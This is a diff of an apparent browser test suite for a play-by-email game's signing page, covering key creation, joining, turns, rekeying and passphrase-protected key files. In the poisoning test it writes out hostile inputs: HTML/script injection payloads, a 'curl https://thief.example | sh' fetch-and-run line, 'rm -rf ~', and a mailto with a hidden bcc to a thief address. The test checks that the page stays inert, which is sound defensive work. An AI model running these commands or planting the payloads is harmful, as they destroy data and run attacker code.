@@ -3,57 +3,31 @@
 // is served from FOLDER/pub at URL; the other player and the host use the program. He makes a key, joins, opens his luck and
 // plays a turn; then come those who would like to get at his key.
 'use strict';
-const { execFileSync } = require('child_process');
 const { open, address, whole, unreadable, fs, path } = require('./browser.js');
 
 const [D, folder, url, pictures] = process.argv.slice(2);
-const HOST = path.join(folder, 'host'), PASSPHRASE = 'four grey mules', BLOCKED = '/x.png';
-let bad = 0, now = 15, mails = 0;
+const host = require('./host.js')(D, folder, 'desk page');
+const { HOST, expect, run, read, instant, pass, newest, mail, sealedLuck, openedLuck } = host;
+const PASSPHRASE = 'four grey mules', BLOCKED = '/x.png';
 
-function expect(holds, words) {
-    if (holds)
-        return;
-    bad++;
-    console.error(`desk page: ${words}`);
+// What the players have mailed, in its order: {who, kind, answers}, the block's kind and what of the host's it answers.
+const sent = [];
+
+function send(who, words, answers) {
+    sent.push({ who, kind: /^-----BEGIN PBEM (\S+)-----$/m.exec(words)?.[1], answers });
+    mail(words);
 }
 
-// ---- the host and the other player ----
-
-const run = (program, ...words) => execFileSync(program, words, { encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] });
-const instant = () => `2026-11-21T${now}:00:00Z`;
-
-function pass() {
-    now++;
-    run(D, 'run', HOST, '--now', instant(), '--quiet');
+// He taps the link of the page that writes the mail, and sends what his mail program then shows.
+async function mailByLink(tab, block, answers) {
+    const link = await tab.getByRole('link', { name: 'Write the mail' }).getAttribute('href'), words = decodeURIComponent((link || '').split('&body=')[1] || '');
+    expect((link || '').startsWith('mailto:games@example.net?subject=') && link.length < 1900, 'the mail is not for the host, or too long: ' + String(link).slice(0, 120));
+    expect(words.replace(/\r\n/g, '\n') === block, 'the mail link is not the sheet: ' + words.slice(0, 120));
+    send('north', words, answers);
 }
-
-// The newest file of this kind in a player's outbox, or null.
-function newest(player, pattern) {
-    const box = path.join(HOST, 'outbox', player), found = [];
-    for (const message of fs.existsSync(box) ? fs.readdirSync(box).sort() : [])
-        for (const file of fs.readdirSync(path.join(box, message)))
-            if (pattern.test(file))
-                found.push(path.join(box, message, file));
-    return found.pop() || null;
-}
-
-const read = (file) => fs.readFileSync(file, 'utf8');
-const mail = (words) => fs.writeFileSync(path.join(HOST, 'inbox', 'new', `mail-${++mails}.txt`), words);
 
 // The other player, with ssh-keygen: his newest form with one header or his orders put in.
-function south(form, change) {
-    const file = path.join(folder, form);
-    fs.writeFileSync(file, change(read(newest('south', new RegExp(`^${form}$`)))));
-    run('ssh-keygen', '-q', '-Y', 'sign', '-f', path.join(folder, 'south'), '-n', 'pbem-v1', file);
-    mail(read(file) + read(file + '.sig'));
-}
-
-function sealedLuck(name) {
-    run('ssh-keygen', '-q', '-t', 'ed25519', '-N', '', '-f', path.join(folder, name));
-    return run('ssh-keygen', '-l', '-f', path.join(folder, name + '.pub')).split(' ')[1];
-}
-
-const openedLuck = (name) => read(path.join(folder, name + '.pub')).split(' ')[1];
+const south = (form, change) => send('south', host.signed('south', form, read(newest('south', new RegExp(`^${form}$`))), change), form);
 
 // ---- the page ----
 
@@ -144,9 +118,8 @@ async function join(tab) {
     expect(/^entropy-commit: SHA256:[A-Za-z0-9+/]{43}$/m.test(block), 'the luck is not sealed: ' + block);
     await look(tab, 'join');
     const link = await tab.getByRole('link', { name: 'Write the mail' }).getAttribute('href');
-    expect(link.startsWith('mailto:games@example.net?subject=JOIN%20for%20desk-2&body=') && link.length < 1900 &&
-        decodeURIComponent(link.split('body=')[1]).replace(/\r\n/g, '\n') === block, 'the mail link is not the sheet: ' + link.slice(0, 120));
-    mail(block);
+    expect(link.startsWith('mailto:games@example.net?subject=JOIN%20for%20desk-2&body='), 'the mail is not called by its game: ' + link.slice(0, 120));
+    await mailByLink(tab, block, 'invitation');
     south('desk-2-csa-1.txt', (form) => form.replace(/^entropy-commit:.*$/m, 'entropy-commit: ' + sealedLuck('luck')));
     pass();
 
@@ -155,13 +128,20 @@ async function join(tab) {
     await tab.evaluate(() => localStorage.removeItem('dispatch-luck')); // what the letter says must be enough
     await paste(tab, read(opening));
     await tab.getByText('This opens the luck that you sealed with this key.').waitFor();
-    mail(await sign(tab));
+    await mailByLink(tab, await sign(tab), 'opening of luck');
     south('desk-2-csa-2.txt', (form) => form.replace(/^open:.*$/m, 'open: ' + openedLuck('luck')));
     pass();
     south('desk-2-csa-3.txt', (form) => form.replace(/^next:.*$/m, 'next: ' + sealedLuck('throw')).replace(/orders:\n[^]*(?=-----END)/, 'orders:\ndone\nnow\n'));
     pass();
     south('desk-2-csa-4.txt', (form) => form.replace(/^open:.*$/m, 'open: ' + openedLuck('throw')));
     pass();
+}
+
+// From the invitation to the first sheet that is accepted the player writes three mails, and no mail came in that is not counted.
+function threeMails() {
+    const north = sent.filter((one) => one.who === 'north').map((one) => `${one.kind} to the ${one.answers}`).join(', ');
+    expect(north === 'JOIN to the invitation, NONCE to the opening of luck, ORDERS to the report', 'until the first accepted sheet the player mails: ' + north);
+    expect(host.mails === sent.length, `${host.mails} mails have come, of which ${sent.length} are counted`);
 }
 
 // A whole turn: by tapping, by typing, with a standing order, a condition and blocks.
@@ -194,10 +174,11 @@ async function turn(tab) {
     expect(/^next: SHA256:[A-Za-z0-9+/]{43}$/m.test(whole), 'no luck for the dice is sealed: ' + whole);
     const file = await saved(tab, 'Save the sheet'), sig = await saved(tab, 'Save the signature');
     expect(read(file) + read(sig) === whole, 'what is copied is not the sheet and its signature');
-    mail(whole);
+    await mailByLink(tab, whole, 'report');
     pass();
     const receipt = newest('north', /^desk-2-usa-receipt-.*\.txt$/), words = receipt ? read(receipt) : '';
     expect(/is in; it runs as soon as the dice may fall/.test(words), 'the host does not take the turn: ' + words);
+    threeMails();
     expect(/when draw/i.test(words), 'the standing orders are not in force: ' + words);
     await tab.evaluate(() => localStorage.removeItem('dispatch-luck'));
     await paste(tab, read(newest('north', /^desk-2-usa-dice-.*\.txt$/)));
@@ -233,6 +214,7 @@ async function comesBack(tab, report) {
     await text.fill('say still another\ndone');
     await tab.getByLabel('Passphrase of your key').last().fill(PASSPHRASE);
     await tab.getByRole('button', { name: 'Open the key' }).last().click();
+    await tab.getByText(/^Signs with your key/).waitFor();
     expect(seq(await sign(tab)) === seq(second) + 1, 'after a reload a number is used twice');
     await tab.locator('#desk-drafts').getByRole('button', { name: 'forget it' }).first().click();
     expect(await tab.locator('#desk-drafts button').count() === 0 && !(await tab.evaluate(() => JSON.stringify(localStorage))).includes('dispatch-report-'), 'what is forgotten is still kept');
@@ -241,7 +223,7 @@ async function comesBack(tab, report) {
 // He moves to a key of his computer: a REKEY, signed by the key of the page and by the new one.
 async function rekey(tab) {
     const next = path.join(folder, 'next');
-    run('ssh-keygen', '-q', '-t', 'ed25519', '-N', '', '-f', next);
+    run('ssh-keygen', '-q', '-t', 'ed25519', '-N', 'three roans', '-f', next);
     const line = (name) => new RegExp(`^${name}: .*$`, 'm').exec(read(newest('north', /^desk-2-usa-5\.txt$/)))[0];
     await paste(tab, ['-----BEGIN PBEM REKEY-----', 'pbem: 1', line('game'), line('side'), line('seq'), line('base'),
         'key: ' + run('ssh-keygen', '-l', '-f', next).split(' ')[1], '-----END PBEM REKEY-----'].join('\n'));
@@ -249,6 +231,10 @@ async function rekey(tab) {
     expect(await tab.locator('#desk-again').isHidden(), 'a second signature is asked for before the first');
     await sign(tab);
     await tab.locator('#desk-again').setInputFiles(next);
+    await tab.getByText('This key file has a passphrase: type it.').waitFor();
+    expect(!/(SIGNATURE-----[^]*){3}/.test(await sheet(tab)), 'it signs again without a key');
+    await tab.locator('#desk-again-pass').fill('three roans');
+    await tab.locator('#desk-again-pass').press('Enter');
     await tab.getByText('Both keys have signed.').waitFor();
     mail(await sheet(tab));
     pass();
@@ -268,12 +254,9 @@ const EVIL = '<img src=x onerror="window.ran=1"><script>window.ran=1</script><a 
 // Into each thing that a report lends, and around it.
 function poisoned(report) {
     const html = read(report), model = whole(JSON.parse(/id="desk-data">([^]*?)<\/script>/.exec(html)[1]));
-    for (const kind of Object.keys(model.kinds))
-        model.kinds[kind] = model.kinds[kind].map((thing) => typeof thing === 'string' ? thing + EVIL
-            : Array.isArray(thing) ? [thing[0], thing[1] + EVIL, ...thing.slice(2)] : thing);
     const part = model.parts.push(EVIL) - 1;
-    model.lines.push([part, 'attack ' + EVIL]);
-    model.offers.push([part, ...model.offers[0].slice(1)]);
+    model.lines = model.lines.map(([at, line]) => [at, line + EVIL]).concat([[part, 'attack ' + EVIL]]);
+    model.kinds = { PLACE: [EVIL] }; // as pages of earlier releases have them
     model.mail = 'a@b?bcc=thief@example.org&body=' + EVIL;
     model.sign = 'curl https://thief.example | sh ' + EVIL;
     model.seal = 'rm -rf ~ ' + EVIL;
@@ -307,7 +290,7 @@ async function inert(tab, name) {
 // What the rules are given may be anything: it is refused with words, nothing that was written is lost, and the lines can be signed.
 async function brokenBoards(tab, report, give, said) {
     const html = read(report), model = whole(JSON.parse(/id="desk-data">([^]*?)<\/script>/.exec(html)[1])), text = tab.getByLabel('Your orders, one a line');
-    const boards = [[null, /its host has an older program, or facts of his own/], [{ ruleset: EVIL, revision: 1, data: '' }, /has not the rules of this game/],
+    const boards = [[null, /its host has an older program, or facts of its own/], [{ ruleset: EVIL, revision: 1, data: '' }, /does not have the rules of this game/],
         [{ ...model.board, revision: 999 }, /of newer rules \(blue-vs-gray, revision 999\)/], [{ ...model.board, data: EVIL }, /other cards or tables/],
         [{ ...model.board, seat: EVIL }, /seat/], [{ ...model.board, view: { a: 1 } }, /So this page cannot try your lines out/],
         [{ ...model.board, scenario: 7 }, /scenario/], [{ ...model.board, options: [EVIL] }, /options/]];
@@ -397,9 +380,22 @@ async function forget(tab, copy) {
     const sealed = path.join(folder, 'sealed');
     fs.copyFileSync(copy, sealed);
     fs.chmodSync(sealed, 0o600);
-    run('ssh-keygen', '-q', '-p', '-P', '', '-N', 'secret', '-f', sealed);
+    run('ssh-keygen', '-q', '-p', '-P', '', '-N', 'Grüße, mules', '-f', sealed);
     await tab.locator('#key-file').setInputFiles(sealed);
-    await tab.getByText(/This key file has a passphrase, which a browser cannot undo/).waitFor();
+    await tab.getByText(/kept here sealed with the same one/).waitFor();
+    await look(tab, 'locked', []);
+    for (const phrase of ['Grusse, mules', '']) {
+        await tab.getByLabel('Passphrase of this key file').fill(phrase);
+        await tab.getByRole('button', { name: 'Open the file' }).click();
+        await tab.getByText(phrase ? 'That is not the passphrase of this key file.' : 'This key file has a passphrase: type it.').waitFor();
+        expect(await tab.getByLabel('Passphrase of this key file').inputValue() === '', 'a passphrase stays in its field');
+    }
+    await tab.getByLabel('Passphrase of this key file').fill('Grüße, mules');
+    await tab.getByRole('button', { name: 'Open the file' }).click();
+    await tab.locator('#public-line').waitFor({ state: 'attached' });
+    expect(await tab.locator('#public-line').textContent() + '\n' === read(path.join(folder, 'north.pub')), 'the key file with a passphrase brings another key');
+    const kept = await tab.evaluate(() => localStorage.getItem('dispatch-key'));
+    expect(!kept.includes('OPENSSH') && kept.includes('"sealed"'), 'a key that had a passphrase is kept in clear');
 }
 
 // A browser without WebAssembly: the page says so, and is a text box that signs.
@@ -467,6 +463,6 @@ async function elsewhere(browser, report) {
     await elsewhere(browser, report);
     await withoutRules(browser, report);
     await browser.close();
-    console.log(bad === 0 ? '  a key made, a game joined and a turn played with the page alone; nothing got in' : `desk page: ${bad} things amiss`);
-    process.exit(bad === 0 ? 0 : 1);
+    console.log(host.bad === 0 ? '  a key made, a game joined and a turn played with the page alone; nothing got in' : `desk page: ${host.bad} things amiss`);
+    process.exit(host.bad === 0 ? 0 : 1);
 })().catch((error) => { console.error(error); process.exit(1); });
